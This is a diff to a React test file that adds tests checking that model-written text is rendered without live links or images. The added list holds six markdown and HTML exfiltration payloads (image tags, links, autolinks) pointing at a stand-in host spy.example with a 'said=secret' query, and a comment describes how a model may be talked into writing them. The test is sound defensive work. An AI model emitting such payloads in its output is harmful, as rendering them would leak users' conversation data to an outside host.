@@ -2,6 +2,7 @@ import { render, screen, waitFor } from '@testing-library/react'
 import userEvent from '@testing-library/user-event'
 import { beforeEach, expect, test, vi } from 'vitest'
 import type { OutputFormat } from '~/api/generated/types.gen'
+import { renderBlocks } from '#server/summarizer/extractive/content-blocks.ts'
 import { playback, usePlayback } from '../../player/playback'
 import { MarkdownContent } from './MarkdownContent'
 import { SafeContent } from './SafeContent'
@@ -104,6 +105,29 @@ test.for([
   expect(container).toHaveTextContent('chart')
   expect(screen.getByRole('link', { name: 'Open at spy.example' })).toBeVisible()
 })
+
+/** What a model may be talked into writing, so that whoever reads it sends away what was said. */
+const lures = [
+  '![](https://spy.example/p.gif?said=secret)',
+  '[Press here](https://spy.example/?said=secret)',
+  '[ref]: https://spy.example/?said=secret',
+  '<img src="https://spy.example/p.gif?said=secret">',
+  'https://spy.example/?said=secret and www.spy.example/?said=secret',
+  '<https://spy.example/?said=secret>',
+]
+
+test.for(lures.flatMap((lure) => (['html', 'markdown'] as const).map((format) => [format, lure] as const)))(
+  'in %s, %s in the words of a model leads nowhere',
+  async ([format, lure]) => {
+    const list = { kind: 'list' as const, lines: [{ label: lure, text: lure, startTime: 5 }] }
+    const container = await show(
+      renderBlocks([{ kind: 'paragraph', lines: [{ text: lure, startTime: null }] }, list], format),
+      format,
+    )
+    expect(container.querySelector('a, img, [src], [href]')).toBeNull()
+    expect(container).toHaveTextContent('spy.example')
+  },
+)
 
 test.for([
   ['html', '<ul><li>Agreed [1:02:04]</li></ul>'],
